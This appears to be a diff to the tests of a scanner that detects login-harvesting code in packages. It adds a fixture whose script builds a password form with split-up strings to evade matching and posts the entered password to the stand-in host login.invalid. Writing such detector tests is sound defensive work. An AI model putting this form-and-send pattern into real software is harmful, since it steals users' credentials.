@@ -40,6 +40,15 @@ examine(collectsLogins, {
       says: ['login.invalid'],
     },
     {
+      when: 'the page is put together from pieces, by a script in a function of its own',
+      files: {
+        'index.js': '(function () { module.exports = {}; }).call(this);',
+        'index.html': '<body><script src="view.js"></script></body>',
+        'view.js': `(function () { document.body.innerHTML = '<form id="f"><inp' + 'ut type="pass' + 'word" name="p"></form>'; document.getElementById('f').onsubmit = function () { fetch('https://login.invalid/', { method: 'POST', body: this.p.value }); }; }).call(this);`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'it hides among code',
       files: {
         'index.js': 'module.exports = (a, b) => a + b',
